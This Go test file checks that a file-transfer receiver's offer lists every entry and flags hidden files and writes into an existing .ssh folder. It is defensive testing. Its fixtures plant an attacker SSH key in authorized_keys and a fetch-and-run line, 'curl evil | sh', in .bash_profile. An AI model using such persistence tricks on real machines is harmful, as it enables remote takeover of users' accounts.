package transfer

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"testing"
)

// TestOfferShowsHiddenWrites reproduces issue 18, item 2: a sender offers
// nine holiday photos plus .ssh/authorized_keys and .bash_profile to a
// receiver whose output folder is a home folder that already has .ssh. The
// offer the person is asked about must hold every entry, and flag the
// hidden names and the write into the existing .ssh.
func TestOfferShowsHiddenWrites(t *testing.T) {
	src := t.TempDir()
	var paths []string
	for i := 1; i <= 9; i++ {
		p := filepath.Join(src, fmt.Sprintf("photo-%d.jpg", i))
		writeFile(t, p, []byte("jpeg"), 0o644)
		paths = append(paths, p)
	}
	writeFile(t, filepath.Join(src, ".ssh", "authorized_keys"), []byte("ssh-ed25519 AAAA attacker\n"), 0o600)
	writeFile(t, filepath.Join(src, ".bash_profile"), []byte("curl evil | sh\n"), 0o644)
	paths = append(paths, filepath.Join(src, ".ssh"), filepath.Join(src, ".bash_profile"))

	home := t.TempDir()
	if err := os.Mkdir(filepath.Join(home, ".ssh"), 0o700); err != nil {
		t.Fatal(err)
	}
	var asked *OfferReceived
	r := transfer(t, SendOptions{Paths: paths}, ReceiveOptions{OutDir: home,
		Accept: func(_ context.Context, o OfferReceived) (bool, error) { asked = &o; return false, nil }})
	if r.recvErr == nil {
		t.Fatal("the declined offer was received")
	}
	if asked == nil {
		t.Fatal("the person was never asked")
	}
	got := map[string]OfferEntry{}
	for _, e := range asked.Entries {
		got[e.Path] = e
	}
	if len(asked.Entries) != 12 || len(got) != 12 {
		t.Fatalf("the offer shows %d entries, want all 12: %+v", len(asked.Entries), asked.Entries)
	}
	want := map[string]OfferEntry{
		".ssh":                 {Path: ".ssh", IsDir: true, Hidden: true, Exists: true},
		".ssh/authorized_keys": {Path: ".ssh/authorized_keys", Size: 26, Hidden: true, InExisting: true},
		".bash_profile":        {Path: ".bash_profile", Size: 15, Hidden: true},
		"photo-1.jpg":          {Path: "photo-1.jpg", Size: 4},
	}
	for name, w := range want {
		if got[name] != w {
			t.Errorf("%s is shown as %+v, want %+v", name, got[name], w)
		}
	}
	if _, err := os.Stat(filepath.Join(home, ".ssh", "authorized_keys")); err == nil {
		t.Error("authorized_keys was written though the offer was declined")
	}
}

// TestOfferListsEveryEntry: the receiver's offer event holds all entries,
// not the first few hundred, so that no view can hide the rest.
func TestOfferListsEveryEntry(t *testing.T) {
	ents := []entry{dirE("d")}
	for i := range 1500 {
		ents = append(ents, fileE(fmt.Sprintf("d/f%04d", i), 1))
	}
	ents = append(ents, fileE(".profile", 1))
	out, _ := sandbox(t)
	var asked OfferReceived
	err := hostileSend(t, ReceiveOptions{OutDir: out, Accept: func(_ context.Context, o OfferReceived) (bool, error) {
		asked = o
		return false, nil
	}}, func(p fakePeer) { p.offer(offerFiles, ents...) })
	if err == nil {
		t.Fatal("the declined offer was received")
	}
	if len(asked.Entries) != len(ents) {
		t.Fatalf("the offer shows %d of %d entries", len(asked.Entries), len(ents))
	}
	if last := asked.Entries[len(ents)-1]; last.Path != ".profile" || !last.Hidden {
		t.Fatalf("the last entry is shown as %+v", last)
	}
}
